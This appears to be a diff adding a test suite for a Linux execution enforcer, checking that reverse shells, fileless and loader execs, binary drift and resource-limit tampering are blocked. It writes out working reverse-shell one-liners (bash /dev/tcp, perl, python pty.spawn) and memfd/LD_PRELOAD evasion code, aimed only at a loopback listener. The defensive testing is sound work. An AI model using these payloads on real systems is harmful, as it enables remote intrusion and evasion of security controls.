@@ -1,0 +1,238 @@
+// Attacks no other test lists (REDTEAM.md): reverse shells in their common shapes, fileless and
+// loader execs, drift through copies, chmod, scripts and the loader's environment, and the
+// application lowering the enforcer's own resource limits to blind it. Each blocked attack sits
+// next to a legitimate neighbour that still works. Only 127.0.0.1 and ::1 are used.
+
+import { chmodSync, copyFileSync, existsSync, mkdirSync, writeFileSync } from "node:fs";
+import { createServer } from "node:net";
+import type { Server } from "node:net";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { expectExit, validateEventsAfterEach } from "./helpers/assert.js";
+import { blockedExecs, describeExecs } from "./helpers/events.js";
+import { ARCH, LOADER, ensureBuilt } from "./helpers/paths.js";
+import { runEnforcer } from "./helpers/run.js";
+import type { Mechanism, RunResult } from "./helpers/run.js";
+import { makeTempDir } from "./helpers/tmp.js";
+import type { TempDir } from "./helpers/tmp.js";
+
+validateEventsAfterEach();
+
+const PYTHON = "/usr/bin/python3";
+const LIBM = `/lib/${ARCH === "arm64" ? "aarch64" : "x86_64"}-linux-gnu/libm.so.6`;
+const POLICY = ["vigil-policy 1", "exec.drift block", "exec.fileless block", "exec.loader block", "exec.reverseShell block", "end", ""].join("\n");
+
+/** A loopback "attacker": sends one line of commands to whoever connects, records what comes back. */
+interface Attacker {
+  port: number;
+  received(): string;
+  close(): Promise<void>;
+}
+
+async function attacker(host: string): Promise<Attacker> {
+  const chunks: Buffer[] = [];
+  const server: Server = createServer((socket) => {
+    socket.on("data", (b: Buffer) => chunks.push(b));
+    socket.on("error", () => undefined);
+    // an external program (not a shell builtin) proves that the shell runs commands
+    socket.write("/bin/echo SHELL-$((6*7)); exit\n");
+  });
+  await new Promise<void>((resolve, reject) => {
+    server.once("error", reject);
+    server.listen(0, host, () => resolve());
+  });
+  const address = server.address();
+  if (address === null || typeof address === "string") throw new Error("attacker listener has no port");
+  return {
+    port: address.port,
+    received: () => Buffer.concat(chunks).toString("latin1"),
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.close(() => resolve());
+      }),
+  };
+}
+
+let tmp: TempDir;
+beforeAll(() => {
+  ensureBuilt();
+  tmp = makeTempDir("unlisted");
+  // made before the enforcer starts: part of the "image", not drift
+  copyFileSync("/bin/true", tmp.join("old-true"));
+  chmodSync(tmp.join("old-true"), 0o755);
+  writeFileSync(tmp.join("old-script"), "#!/bin/sh\necho old-script-ran\n", { mode: 0o755 });
+  writeFileSync(tmp.join("not-yet-executable"), "#!/bin/sh\necho chmod-ran\n", { mode: 0o644 });
+  copyFileSync(LIBM, tmp.join("old.so"));
+  mkdirSync(tmp.join("oldlib"));
+  copyFileSync(LIBM, tmp.join("oldlib/libm.so.6"));
+});
+afterAll(() => tmp?.remove());
+
+const bash = (mechanism: Mechanism, script: string, timeoutMs = 20_000): Promise<RunResult> =>
+  runEnforcer({ mechanism, policy: POLICY, command: ["bash", "-c", script], cwd: tmp.path, timeoutMs });
+
+function expectBlockedBy(r: RunResult, rule: string, count = 1): void {
+  const blocked = blockedExecs(r.events);
+  expect(blocked.length, describeExecs(r.events)).toBeGreaterThanOrEqual(count);
+  expect(blocked.every((e) => e.rule === rule), describeExecs(r.events)).toBe(true);
+}
+
+describe.each(["seccomp", "landlock"] as const)("reverse shells, mechanism %s", (mechanism) => {
+  const shapes: [string, (port: number) => string][] = [
+    ["bash -i >& /dev/tcp", (p) => `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1'`],
+    ["exec 3<>/dev/tcp; sh <&3 >&3 2>&3", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; sh <&3 >&3 2>&3`],
+    [
+      "perl: socket dup'ed onto STDIN/STDOUT, then exec /bin/sh",
+      (p) =>
+        `perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${p}, inet_aton("127.0.0.1"))) or die; ` +
+        `open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")'`,
+    ],
+    // new: the shell redirects itself (no exec after the dup): every external command it runs is refused
+    ["exec 3<>/dev/tcp; exec 0<&3 1>&3 2>&3; read-eval loop", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; exec 0<&3 1>&3 2>&3; while read l; do eval "$l"; done`],
+    ["exec 3<>/dev/tcp; eval loop on fd 3", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; while read l <&3; do eval "$l" >&3 2>&3; done`],
+    // new: the shell's stdio is a terminal; its parent (python) holds the socket on its stdio
+    [
+      "python pty.spawn after dup2",
+      (p) =>
+        `${PYTHON} -c 'import socket,os,pty; s=socket.create_connection(("127.0.0.1",${p})); ` +
+        `[os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn("/bin/sh")'`,
+    ],
+    // new: /proc/net/tcp grown past the enforcer's old 256 KiB read by 2500 listening sockets
+    [
+      "bash -i >& /dev/tcp behind 2500 listening sockets",
+      (p) =>
+        `ulimit -n 4096; ${PYTHON} -c 'import socket,os
+ss=[socket.socket() for i in range(2500)]
+for s in ss: s.bind(("127.0.0.1",0)); s.listen(1)
+os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
+    ],
+  ];
+
+  test.each(shapes)("%s: refused, the attacker gets no command run", async (_name, command) => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(mechanism, command(a.port));
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+
+  test("UDP and IPv6 forms are refused too", async () => {
+    const a6 = await attacker("::1");
+    try {
+      const r = await bash(mechanism, `bash -c 'sh -i >& /dev/udp/127.0.0.1/9 0>&1'; bash -c 'bash -i >& /dev/tcp/::1/${a6.port} 0>&1'; exit 0`);
+      expectBlockedBy(r, "exec.reverseShell", 2);
+      expect(a6.received()).not.toContain("SHELL-42");
+    } finally {
+      await a6.close();
+    }
+  });
+
+  test("neighbours: pipelines, a shell on a UNIX socketpair, a program holding a TCP connection that runs sh", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(
+        mechanism,
+        `echo pipe | cat | tr a-z A-Z; ${PYTHON} -c 'import socket,subprocess
+a,b=socket.socketpair(); subprocess.run(["sh","-c","echo unix-ok"],stdout=a); print(b.recv(99).decode().strip(), flush=True)
+c=socket.create_connection(("127.0.0.1",${a.port})); subprocess.run(["sh","-c","/bin/echo conn-ok"])'`,
+      );
+      expectExit(r, 0);
+      expect(r.stdout.split("\n")).toEqual(["PIPE", "unix-ok", "conn-ok", ""]);
+      expect(blockedExecs(r.events)).toEqual([]);
+    } finally {
+      await a.close();
+    }
+  });
+});
+
+describe("the enforcer's resource limits are not the application's to change", () => {
+  test("prlimit on the enforcer (RLIMIT_NOFILE 0, RLIMIT_CPU 1 s) is refused; the reverse shell after it still is", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      // bash is the enforcer's child: $PPID is the enforcer
+      const r = await bash(
+        "seccomp",
+        `prlimit --pid $PPID --nofile=0:0 2>/dev/null; echo "nofile=$?"; prlimit --pid $PPID --cpu=1:1 2>/dev/null; echo "cpu=$?"; ` +
+          `prlimit --pid $$ --nofile=512:512; echo "self=$?"; bash -c 'bash -i >& /dev/tcp/127.0.0.1/${a.port} 0>&1'; exit 0`,
+      );
+      expect(r.stdout).toMatch(/^nofile=1$/m);
+      expect(r.stdout).toMatch(/^cpu=1$/m);
+      expect(r.stdout).toMatch(/^self=0$/m); // the neighbour: a process still sets its own limits
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+});
+
+describe.each(["seccomp", "landlock"] as const)("fileless, loader and drift, mechanism %s", (mechanism) => {
+  test("memfd, O_TMPFILE and deleted files run by descriptor are refused; an image file by descriptor runs", async () => {
+    const py = (body: string): string => `${PYTHON} -c 'import os; data=open("/bin/true","rb").read()\n${body}'`;
+    const r = await bash(
+      mechanism,
+      [
+        py('fd=os.memfd_create("x"); os.write(fd,data); os.execv(f"/proc/self/fd/{fd}",["memfd"])'),
+        `echo "memfd=$?"`,
+        py(`fd=os.open(".",os.O_TMPFILE|os.O_RDWR,0o755); os.write(fd,data); ro=os.open(f"/proc/self/fd/{fd}",os.O_RDONLY); os.close(fd); os.execve(ro,["tmpfile"],{})`),
+        `echo "tmpfile=$?"`,
+        py(`w=os.open("gone",os.O_CREAT|os.O_WRONLY,0o755); os.write(w,data); os.close(w); ro=os.open("gone",os.O_RDONLY); os.unlink("gone"); os.execve(ro,["deleted"],{})`),
+        `echo "deleted=$?"`,
+        `${PYTHON} -c 'import os; os.execve(os.open("old-true",os.O_RDONLY),["by-fd"],{})'`,
+        `echo "image-by-fd=$?"`,
+      ].join("\n"),
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["memfd=126", "tmpfile=126", "deleted=126", "image-by-fd=0"]);
+    expectBlockedBy(r, "exec.fileless", 3);
+  });
+
+  test("the dynamic loader as a program is refused, with or without options; programs using it as their interpreter run", async () => {
+    const r = await bash(
+      mechanism,
+      `${LOADER} /bin/true; echo "plain=$?"; ${LOADER} --argv0 x --library-path /nowhere /bin/true; echo "options=$?"; ` +
+        `${LOADER} --list /bin/true >/dev/null; echo "list=$?"; /bin/true; echo "normal=$?"`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["plain=126", "options=126", "list=126", "normal=0"]);
+    expectBlockedBy(r, "exec.loader", 3);
+  });
+
+  test("drift: a copy of an allowed program, chmod +x of an old file, a new #! script; the image's own run", async () => {
+    const r = await bash(
+      mechanism,
+      `cp /bin/true copy; ./copy; echo "copy=$?"; chmod +x not-yet-executable; ./not-yet-executable; echo "chmod=$?"; ` +
+        `printf '#!/bin/sh\\necho new-script-ran\\n' > new-script; chmod +x new-script; ./new-script; echo "script=$?"; ` +
+        `./old-true; echo "old=$?"; ./old-script`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["copy=126", "chmod=126", "script=126", "old=0", "old-script-ran"]);
+    expectBlockedBy(r, "exec.drift", 3);
+  });
+
+  // new: the loader's environment names code that appeared after the start
+  test("drift: LD_PRELOAD, LD_AUDIT and LD_LIBRARY_PATH naming new code are refused, even behind 100 KiB of other variables; old ones run", async () => {
+    const pad = Array.from({ length: 100 }, (_, i) => `PAD${i}=${"x".repeat(1000)}`).join(" ");
+    const r = await bash(
+      mechanism,
+      `cp ${LIBM} new.so; mkdir newlib; cp ${LIBM} newlib/libm.so.6; ` +
+        `LD_PRELOAD=$PWD/new.so /bin/true; echo "preload=$?"; LD_PRELOAD=./new.so /bin/true; echo "relative=$?"; ` +
+        `LD_AUDIT=$PWD/new.so /bin/true 2>/dev/null; echo "audit=$?"; LD_LIBRARY_PATH=/usr/lib:$PWD/newlib /bin/true; echo "libpath=$?"; ` +
+        `env ${pad} LD_PRELOAD=$PWD/new.so /bin/true; echo "padded=$?"; ` +
+        `LD_PRELOAD=$PWD/old.so /bin/true; echo "old-preload=$?"; LD_LIBRARY_PATH=$PWD/oldlib /bin/true; echo "old-libpath=$?"`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual([
+      "preload=126",
+      "relative=126",
+      "audit=126",
+      "libpath=126",
+      "padded=126",
+      "old-preload=0",
+      "old-libpath=0",
+    ]);
+    expectBlockedBy(r, "exec.drift", 5);
+  });
+});
+
+test("the test's own inputs exist", () => {
+  expect(existsSync(PYTHON) && existsSync(LIBM) && existsSync(LOADER)).toBe(true);
+});
